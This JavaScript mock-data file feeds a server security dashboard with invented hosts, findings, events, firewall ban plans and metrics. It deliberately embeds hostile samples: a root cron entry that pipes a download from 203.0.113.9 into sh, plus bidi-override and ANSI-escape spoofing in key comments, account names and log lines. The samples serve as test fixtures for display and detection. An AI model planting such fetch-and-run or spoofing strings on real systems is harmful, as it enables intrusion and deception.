// Invented data for the mock: 41 hosts, one silent, one plan on probation, gaps in the series and
// hostile text in evidence. Addresses are from the documentation ranges.

const now = () => Date.now();
export const ago = (seconds) => new Date(now() - seconds * 1000).toISOString();
export const ahead = (seconds) => new Date(now() + seconds * 1000).toISOString();

/** The same number for the same words on every run: 0 to 1. */
function chance(...words) {
  let hash = 2166136261;
  for (const character of words.join(" ")) hash = Math.imul(hash ^ character.codePointAt(0), 16777619) >>> 0;
  hash = Math.imul(hash ^ (hash >>> 15), 0x2c1b3c6d) >>> 0;
  return ((hash ^ (hash >>> 13)) >>> 0) / 2 ** 32;
}

const GUARDS = ["firewall", "mesh", "access", "backup", "waf", "intrusion", "integrity", "inventory", "upgrade", "monitor", "journal"];
const BUILT = new Set(["firewall", "access", "inventory", "upgrade", "monitor", "journal"]);

const PRACTICES = [
  ["security-groups", "firewall", "Security groups", "Set security group rules: control the access to and from an instance over the network."],
  ["port-security", "firewall", "Port security", "Open only required ports as needed, use only custom ports (30000 or higher), and control access to service ports."],
  ["high-risk-ports", "firewall", "High-risk ports", "Improve port security: incorrect port opening may cause internal security issues."],
  ["database-ports", "firewall", "Database ports", "Restrict database services to an intranet; if one must be reached from the Internet, use a higher port and authorize addresses."],
  ["security-domains", "mesh", "Security domains", "Build private networks that separate servers of different security levels."],
  ["logon-encrypted", "mesh", "Encrypted logon", "Use VPN products to encrypt the logon data."],
  ["logon-passwords", "access", "Strong logon passwords", "At least eight characters with upper case, lower case, numbers and special characters, changed at least once every six months."],
  ["backup-regular", "backup", "Regular backups", "Create snapshots regularly, such as daily, and keep them for at least seven days."],
  ["backup-vault", "backup", "Backup vaults", "Associate the server with a vault and a backup policy."],
  ["backup-consistent", "backup", "Consistent server backup", "Back up all disks of a server together, so that no time difference makes the data inconsistent."],
  ["restore-proven", "backup", "Proven restore", "Restore data to any point in the past when it was backed up."],
  ["web-firewall", "waf", "Web application firewall", "Install a web application firewall against SQL injection, XSS, illegal requests and unauthorized access to core files."],
  ["account-cracking", "intrusion", "Account cracking prevention", "Enable account cracking prevention."],
  ["intrusions", "intrusion", "Intrusion detection", "Defend against intrusions, and easily detect and handle threats."],
  ["web-tampering", "integrity", "Web tamper protection", "Defend against web page tampering."],
  ["malware", "integrity", "Malware", "Protect servers from Trojan horses and other viruses."],
  ["assets", "inventory", "Assets", "Identify and manage the assets on your servers."],
  ["baseline", "inventory", "Baseline", "Check the security status and eliminate the risks of a server."],
  ["os-upgrade", "upgrade", "Operating system upgrades", "Periodically upgrade the operating system."],
  ["vulnerabilities", "upgrade", "Vulnerabilities", "Protect application vulnerabilities: defects that hackers may exploit to illegally access data."],
  ["monitoring", "monitor", "Monitoring", "Monitor the running status of servers: basic, operating system and process monitoring."],
  ["alarms", "monitor", "Alarms", "Set alarm rules to customize the monitored objects and notification policies."],
  ["security-information", "journal", "Security information", "Collect security information."],
];

export const SILENT = "mail-2";
/** How the hosts were last heard of that are not simply online: word, seconds ago, what shows it. */
const VERDICTS = {
  [SILENT]: ["unreachable", 745, "no answer to 3 probes over 90 s; the connection was never closed"],
  "db-4": ["killed", 310, "its connection was reset while the host answered a probe \u202Egnp.exe"],
  "build-2": ["ended", 5400, "its agent said goodbye: the service was stopped"],
  "cache-3": ["clock_wrong", 130, "its clock is 371 d ahead of the server's"],
  "edge-6": ["never", 90, null],
  "log-3": ["revoked", 86400, "the disk was sold"],
};
const REGIONS = ["fra-1", "ams-2", null];
const ROLES = [["web", 14], ["db", 6], ["cache", 4], ["mail", 3], ["build", 5], ["edge", 6], ["log", 3]];
export const NAMES = ROLES.flatMap(([role, count]) => Array.from({ length: count }, (_, i) => `${role}-${i + 1}`));

const CHECKS = [
  ["firewall.database-open", "database-ports", "critical", "Database open to the world", (h) => h.startsWith("db") && chance(h, "db") < 0.35, "tcp/3306", (h) => `listener 0.0.0.0:3306 mysqld (pid ${Math.floor(chance(h) * 9000)}), package mysql-server-8.0\nno rule of any table refuses it from 0.0.0.0/0`, "A database that answers everybody is found within hours and guessed at from then on.", "Bind the service to 127.0.0.1 or to a private address, then look again.", "sed -i 's/^bind-address.*/bind-address = 127.0.0.1/' /etc/mysql/mysql.conf.d/mysqld.cnf && systemctl restart mysql", "CIS MySQL 8.0, 3.1"],
  ["access.ssh-password", "logon-passwords", "high", "SSH accepts passwords for root", (h) => chance(h, "ssh") < 0.1, "sshd_config", () => "PermitRootLogin yes\nPasswordAuthentication yes\n(from `sshd -T`)", "Every guessing program tries root first. With a key it cannot be guessed.", "Allow keys only for root.", "printf 'PermitRootLogin prohibit-password\\n' > /etc/ssh/sshd_config.d/50-root.conf && systemctl reload ssh", "CIS Debian 12, 5.1.20"],
  ["upgrade.security-pending", "os-upgrade", "high", "Security updates are pending", (h) => chance(h, "upd") < 0.22, "apt", (h) => `${2 + Math.floor(chance(h, "n") * 12)} security updates:\nopenssl 3.0.11-1~deb12u2 → 3.0.15-1~deb12u1\nlibc6 2.36-9+deb12u4 → 2.36-9+deb12u9`, "Published holes are exploited first where the update is known and missing.", "Install the pending security updates.", "apt-get update && apt-get upgrade", "mission: periodically upgrade the operating system"],
  ["access.key-hostile-comment", "logon-passwords", "medium", "SSH key with a deceptive comment", (h) => h === "edge-3" || h === "web-7", "authorized_keys:2", () => "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPxk \u001b[2K\u001b[32madmin@ops\u001b[0m \u202Eten.elpmaxe@toor\u202C\u200b", "A comment that hides characters is made to be overlooked.", "Remove the line if nobody vouches for it.", null, null],
  ["firewall.high-risk-port", "high-risk-ports", "medium", "High-risk port answers", (h) => chance(h, "risk") < 0.2, "tcp/111", () => "listener 0.0.0.0:111 rpcbind (pid 612), package rpcbind 1.2.6-6", "Services on these ports are scanned for all day.", "Remove rpcbind unless NFS needs it.", "apt-get purge rpcbind", "CIS Debian 12, 2.1.12"],
  ["inventory.world-writable", "baseline", "low", "World-writable directory without sticky bit", (h) => chance(h, "ww") < 0.3, "/srv/upload", () => "drwxrwxrwx 2 www-data www-data 4096 /srv/upload", "Anybody on the host can replace the files of others there.", "Set the sticky bit.", "chmod +t /srv/upload", "CIS Debian 12, 7.1.11"],
  ["access.password-age", "logon-passwords", "medium", "Password older than 180 days", (h) => chance(h, "age") < 0.3, "deploy", () => "deploy: last change 2025-01-14, max 99999", "A password that leaked long ago still opens the door.", "Set a new password and an age.", "passwd deploy && chage --maxdays 180 deploy", null],
];

function finding(row, host) {
  const [check, practice, severity, title, , object, evidence, why, fix, command, reference] = row;
  return {
    id: Math.floor(chance(check, host) * 2 ** 48).toString(16).padStart(16, "0"),
    check, practice, title, host, object, severity, state: "open",
    evidence: evidence(host), observed_at: ago(host === SILENT ? 760 : 20), why,
    fix: { text: fix, ...(command ? { command } : {}) },
    ...(reference ? { reference } : {}),
    first_seen: ago(3600 * (2 + chance(host, check) * 400)), last_seen: ago(20), mended_at: null,
    can: { mend: "the plan that mends this is not built yet", accept: "accepting is not built yet" },
  };
}

const RANK = { informational: 0, low: 1, medium: 2, high: 3, critical: 4 };
export const findings = NAMES.flatMap((host) => CHECKS.filter((row) => row[4](host)).map((row) => finding(row, host))).sort((a, b) => RANK[b.severity] - RANK[a.severity]);
if (findings.at(-1)) Object.assign(findings.at(-1), { state: "mended", mended_at: ago(4000) });
findings.push({
  ...finding(CHECKS[1], "web-9"), id: "00000000000000aa", check: "access.sshd-readable", title: "SSH settings could not be read", severity: "informational", state: "unknown",
  object: "check", evidence: "/etc/ssh/sshd_config: permission denied",
});
export const findingsSorted = findings;

const stateOf = (host) => {
  const worst = findings.filter((f) => f.host === host && f.state === "open").map((f) => RANK[f.severity]);
  const top = Math.max(-1, ...worst);
  return top >= 3 ? "bad" : top >= 1 ? "attention" : "good";
};

const regionOf = (i) => REGIONS[i % REGIONS.length];

export function hosts() {
  return [...NAMES.map(host), agentless()];
}

function host(name, i) {
  const [word = "online", since_s = 86400 * 3, reason = null] = VERDICTS[name] ?? [];
  const quiet = word !== "online";
  const own = findings.filter((f) => f.host === name && f.state === "open");
  return {
    name, state: quiet ? "unknown" : stateOf(name), kind: "agent", profile: i % 5 === 0 ? "protect" : "observe", standing: word === "revoked" ? "revoked" : "active",
    region: regionOf(i), tags: { role: name.split("-")[0], env: i % 3 === 0 ? "test" : "live", ...(i % 7 === 0 ? { owner: "Ann B", "backup/policy": "daily" } : {}) }, address: null,
    verdict: { word, since: ago(since_s), reason },
    lost: name === SILENT ? { monitor: 4000, journal: 120 } : {}, certificate: i === 0 ? null : { serial: `0${i}4be19c770a52c8`, not_after: ahead(86400 * (12 + i)) },
    os: chance(name, "os") < 0.6 ? "Debian GNU/Linux 12 (bookworm)" : "Ubuntu 24.04.1 LTS", kernel: "6.1.0-28-amd64", uptime_s: quiet ? null : Math.floor(chance(name, "up") * 8e6) + 4000,
    addresses: [`192.0.2.${i + 10}`, `2001:db8::${(i + 10).toString(16)}`], agent_version: "0.1.0", permit: ["observe", "ban"],
    worst: own[0] ?? null, findings_open: own.length,
    cpu: quiet ? null : chance(name, "cpu") ** 2, memory: quiet ? null : 0.2 + chance(name, "mem") * 0.7, disk: 0.1 + chance(name, "disk") * 0.8,
    updates: Math.floor(chance(name, "upd") * 30), observed_at: ago(quiet ? since_s : 12), fresh_until: quiet ? ago(since_s - 60) : ahead(60),
    generation: { epoch: 1, n: 41 }, can: { ban: true, look: quiet ? `the agent is not connected: ${word}` : true, tag: true, retire: true, revoke: word === "revoked" ? "its certificate is revoked already" : true },
  };
}

function agentless() {
  return {
    ...host("nas-1", 3), name: "nas-1", state: "unknown", kind: "agentless", address: "nas.example.org", region: "fra-1", tags: { role: "nas" }, verdict: { word: "agentless", since: ago(9e5), reason: null }, certificate: null,
    os: "", kernel: "", uptime_s: null, addresses: [], worst: null, findings_open: 0, cpu: null, memory: null, disk: null, updates: null, permit: [],
    can: { ban: "no agent runs on it", look: "no agent runs on it", tag: true, retire: true, revoke: "it has no certificate" },
  };
}

/** A host that has just come in with a join token. */
export function newcomer(name, { region, tags, profile }, online) {
  return {
    ...host("web-1", 1), name, region: region ?? null, tags, profile, state: "unknown", verdict: { word: online ? "online" : "never", since: ago(1), reason: null }, worst: null, findings_open: 0, lost: {},
  };
}

function practiceStates(of) {
  return PRACTICES.map(([id, guard, title, mission]) => {
    const own = findings.filter((f) => f.practice === id && f.state === "open" && (of === undefined || f.host === of));
    const worst = Math.max(-1, ...own.map((f) => RANK[f.severity]));
    const served = BUILT.has(guard) && id !== "security-groups" && id !== "alarms";
    const state = !served ? "unprotected" : worst >= 3 ? "bad" : worst >= 1 ? "attention" : "good";
    const hostsAffected = new Set(own.map((f) => f.host)).size;
    return {
      id, guard, title, mission, state, score: { good: 100, attention: 50 }[state] ?? 0,
      reason: !served ? `nothing protects this yet: the ${guard} guard does not serve it in this version` : own.length > 0 ? `open findings: ${own.length}` : "4 checks passed",
      hosts_affected: served ? hostsAffected : NAMES.length, hosts_total: NAMES.length,
    };
  });
}
export const practices = practiceStates;

const MESSAGES = [
  ["firewall.ban.add", "high", "203.0.113.9 banned for 12 h on 41 hosts", "admin", "success"],
  ["access.login.success", "informational", "login of deploy from 198.51.100.4 by key", "agent", "success"],
  ["frame.host.silent", "medium", `host ${SILENT} has been silent for 2 min`, "server", "success"],
  ["upgrade.package.change", "low", "openssl 3.0.11 → 3.0.15", "agent", "success"],
  ["access.login.failure", "medium", "41 failed logins as root\u001b[31m\u202E from 203.0.113.9", "agent", "failure"],
  ["firewall.ban.add", "medium", "ban of 198.51.100.4 refused: it is on the allow-list", "operator-2", "refused"],
  ["frame.session.open", "informational", "signed in", "admin", "success"],
];
/** What some changes carry besides their sentence. */
const DATA = {
  "frame.host.tag": { before: { region: null, tags: { env: "test" }, profile: "observe" }, after: { region: "fra-1", tags: { env: "live", role: "web" }, profile: "observe" } },
  "firewall.ban.add": { plan: "p-1", rule: "r1", seconds: 43200 },
};
MESSAGES.unshift(["frame.host.tag", "informational", "changed region and tags of web-1", "operator-2", "success"]);

export function events(count, audit) {
  return Array.from({ length: count }, (_, i) => {
    const [kind, severity, message, actor, outcome] = MESSAGES[i % MESSAGES.length];
    return {
      id: 1000 - i, time: ago(40 + i * i * 17), kind, host: kind.startsWith("frame.session") ? null : NAMES[(i * 7) % NAMES.length], severity, outcome,
      actor: { name: actor, ...(actor === "agent" || actor === "server" ? {} : { from: "198.51.100.4" }) }, message, object: kind.startsWith("firewall") ? "203.0.113.9" : null, audit,
      data: DATA[kind] ?? {},
    };
  });
}

export function banPlan({ address, hosts: chosen = [], probation, for: time, reason }, id = "", verb = "Ban") {
  const on = chosen.length > 0 ? chosen : NAMES;
  return {
    id, guard: "firewall", title: `${verb} ${address}${time ? ` for ${time}` : ""}`, state: id === "" ? "preview" : probation ? "probation" : "applied",
    effects: [
      { kind: "closes", severity: "medium", sentence: `${address} can open no new connection to ${on.length} hosts`, hosts: on },
      { kind: "cuts", severity: "high", sentence: `cuts 2 live connections of ${address} to web-1: tcp/443, tcp/22`, hosts: ["web-1"] },
      { kind: "keeps", severity: "informational", sentence: "does not touch your own path (198.51.100.4 → :8443, checked)", hosts: [] },
    ],
    steps: [{ name: "AddBan", object: address, reason: reason || "asked for by an operator", permit: "ban", act: {} }],
    hosts: on, by: "admin", created_at: ago(1), observed_at: ago(14), deadline: probation ? ahead(60) : null, probation_s: probation ? 60 : null,
    generation: { epoch: 1, n: 42 },
    reports: id === "" ? [] : on.slice(0, 6).map((host) => ({ host, guard: "firewall", generation: { epoch: 1, n: 42 }, at: ago(1), verified: true, drift: false, steps: [{ step: { name: "AddBan", object: address, reason: "", permit: "ban" }, outcome: "done" }] })),
    can: { confirm: probation ? "the operator's path to web-1 has not been tried since the change" : "not on probation", confirm_waived: true, rollback: true },
  };
}

export function inventory(kind, host) {
  const rows = {
    accounts: ["root", "daemon", "www-data", "deploy", "mysql", "backup\u202Etoor"].map((name, i) => ({ name, uid: i * 33, gid: i * 33, home: i === 0 ? "/root" : `/home/${name}`, shell: i % 2 ? "/usr/sbin/nologin" : "/bin/bash", can_log_in: i % 2 === 0, sudo: i === 3, last_change: "2025-11-14" })),
    ports: [["tcp", "0.0.0.0", 22, "sshd"], ["tcp", "0.0.0.0", 443, "nginx"], ["tcp", "127.0.0.1", 6379, "redis-server"], ["udp", "127.0.0.53", 53, "systemd-resolve"]].map(([protocol, address, port, process], i) => ({ protocol, address, port, process, pid: 600 + i * 41, user: i ? "www-data" : "root", package: process, unit: `${process}.service` })),
    processes: Array.from({ length: 140 }, (_, i) => ({ pid: 1 + i * 7, ppid: i ? 1 : 0, name: ["systemd", "sshd", "nginx", "php-fpm8.2", "mysqld"][i % 5], user: i % 3 ? "www-data" : "root", cmdline: `/usr/sbin/${["init", "sshd -D", "nginx: worker process", "php-fpm: pool www", "mysqld --defaults-file=/etc/mysql/my.cnf"][i % 5]}`, started_at: ago(chance(i) * 4e6), exe: "/usr/sbin/x", package: null })),
    packages: Array.from({ length: 60 }, (_, i) => ({ name: ["openssl", "libc6", "nginx", "bash", "curl"][i % 5] + (i > 4 ? `-${i}` : ""), version: `3.0.${i}-1~deb12u${i % 4}`, arch: "amd64", manager: "dpkg" })),
    modules: ["nf_tables", "br_netfilter", "overlay", "wireguard"].map((name, i) => ({ name, size: 40960 * (i + 1), used_by: i ? [] : ["nft_chain_nat"], taint: null })),
    autostart: [{ kind: "systemd", name: "nginx.service", path: "/lib/systemd/system/nginx.service", command: "/usr/sbin/nginx -g 'daemon on;'", enabled: true }, { kind: "cron", name: "root", path: "/var/spool/cron/crontabs/root", command: "curl http://203.0.113.9/x | sh", enabled: true }],
    webroots: [],
  };
  return rows[kind] ?? [];
}

const METRICS = {
  cpu_usage_ratio: ["ratio", (c, w) => 0.08 + 0.5 * c * w], load1: ["", (c, w) => 4 * c * w], memory_used_ratio: ["ratio", (c, w) => 0.55 + 0.1 * w], memory_available_bytes: ["bytes", (c, w) => 3.2e9 - 4e8 * w],
  swap_used_bytes: ["bytes", null], disk_used_ratio: ["ratio", (c, w) => 0.3 + 0.02 * w, [{ mount: "/" }, { mount: "/var" }, { mount: "/srv" }]], disk_io_read_bytes_rate: ["bytes/s", (c, w) => 4e6 * c * w, [{ device: "vda" }, { device: "vdb" }]],
  disk_io_write_bytes_rate: ["bytes/s", (c, w) => 2e6 * c * w, [{ device: "vda" }, { device: "vdb" }]], network_receive_bytes_rate: ["bytes/s", (c, w) => 1e6 * c * w, [{ interface: "eth0" }]],
  network_transmit_bytes_rate: ["bytes/s", (c, w) => 3e6 * c * w, [{ interface: "eth0" }, { interface: "wg0" }]], tcp_connections: ["", (c, w) => Math.round(80 * w * c), [{ state: "established" }, { state: "time_wait" }, { state: "listen" }]],
  processes: ["", (c) => Math.round(180 * c), [{ state: "running" }, { state: "sleeping" }]], pressure_cpu_some_ratio: ["ratio", (c, w) => 0.02 * c * w], pressure_memory_some_ratio: ["ratio", () => 0], pressure_io_some_ratio: ["ratio", (c, w) => 0.004 * c * w],
  cpu_mode_ratio: ["ratio", (c, w) => 0.1 * w * c, [{ mode: "user" }, { mode: "system" }, { mode: "iowait" }, { mode: "steal" }]], container_cpu_ratio: ["ratio", (c, w) => 0.2 * w, [{ container: "shop-web-1" }, { container: "shop-db" }]], container_memory_bytes: ["bytes", (c, w) => 3e8 * w, [{ container: "shop-web-1" }, { container: "shop-db" }]],
  process_count: ["", (c) => Math.round(180 * c)], disk_free_bytes: ["bytes", (c, w) => 4e10 - 1e9 * w, [{ mount: "/" }, { mount: "/srv" }]], hosts_reporting: ["", () => 40],
  open_files: ["", (c, w) => Math.round(2200 + 300 * w * c)], uptime_seconds: ["seconds", null],
};

export function series(name, host, from, to, step) {
  const [unit, value, labels = [{}]] = METRICS[name] ?? ["", null];
  if (!METRICS[name]) return { name, unit, help: "", series: [], reason: `no metric is called ${name}; the nearest name is cpu_usage_ratio` };
  if (value === null) return { name, unit, help: "", series: [], reason: "this host has no swap" };
  const end = host === SILENT ? Math.min(to, now() / 1000 - 745) : to;
  const gapFrom = to - (to - from) * 0.42;
  const gapTo = to - (to - from) * 0.34;
  return {
    name, unit, help: "", step_s: step, tier: step > 60 ? "5 min" : "minute",
    series: labels.map((label) => {
      const points = [];
      for (let t = Math.ceil(from / step) * step; t <= end; t += step) {
        if (t > gapFrom && t < gapTo && t - gapFrom < (gapTo - gapFrom) * 0.48) points.push([t, null]);
        else if (t <= gapFrom || t >= gapTo) {
          const wave = 0.6 + 0.3 * Math.sin(t / 900 + chance(host, JSON.stringify(label)) * 9) + 0.1 * Math.sin(t / 130);
          points.push([t, Math.max(0, value(0.5 + chance(host, t) * 0.5, wave * (0.4 + chance(name, JSON.stringify(label)))))]);
        }
      }
      // Steps longer than a minute stand for several values, so they have a band.
      const edge = (by) => points.map(([, value]) => (value === null ? null : Math.max(0, value * by)));
      return { labels: label, points, ...(step > 60 ? { min: edge(0.8), max: edge(1.25) } : {}) };
    }),
  };
}

export function guardsOf(host) {
  return GUARDS.map((guard) => {
    const states = practiceStates(host).filter((p) => p.guard === guard);
    const order = ["good", "attention", "unknown", "unprotected", "bad"];
    const state = states.map((p) => p.state).sort((a, b) => order.indexOf(b) - order.indexOf(a))[0];
    return {
      guard, built: BUILT.has(guard), state: BUILT.has(guard) && state === "unprotected" ? "attention" : state, reason: BUILT.has(guard) ? states.map((p) => `${p.title}: ${p.reason}`)[states.length - 1] : "not built yet",
      observed_at: BUILT.has(guard) ? ago(host === SILENT ? 745 : 12) : null, fresh_until: null, generation: { epoch: 1, n: 41 }, error: null,
    };
  });
}

export const exposure = (host) => [
  { protocol: "tcp", port: 22, address: "0.0.0.0", process: "sshd", package: "openssh-server", scope: "world", by_rule: "named", open: "named", rule: "web/ssh", path: "host", high_risk: false, database: null, finding: null },
  { protocol: "tcp", port: 443, address: "0.0.0.0", process: "nginx", package: "nginx", scope: "world", finding: null },
  { protocol: "tcp", port: 3306, address: "0.0.0.0", process: "mysqld", package: "mysql-server-8.0", scope: "world", finding: findings.find((f) => f.host === host && f.check === "firewall.database-open")?.id ?? null },
  { protocol: "tcp", port: 6379, address: "127.0.0.1", process: "redis-server", package: "redis", scope: "host", finding: null },
  { protocol: "tcp", port: 9100, address: "10.0.0.4", process: "node_exporter\u001b[1m", package: null, scope: "private", finding: null },
];

export const ruleset = (host) => ({
  host,
  tables: [
    { family: "inet", name: "palisade", chains: [{ name: "prerouting", hook: "prerouting", policy: "accept", rules: 4 }, { name: "input", hook: "input", policy: "accept", rules: 3 }] },
    { family: "ip", name: "nat", chains: [{ name: "DOCKER", hook: null, policy: null, rules: 11 }, { name: "POSTROUTING", hook: "postrouting", policy: "accept", rules: 3 }] },
  ],
  ours: { present: true, bans: 3, allow: 2, failsafe: ["198.51.100.4", "192.0.2.0/24"] }, legacy: [], observed_at: ago(12),
});
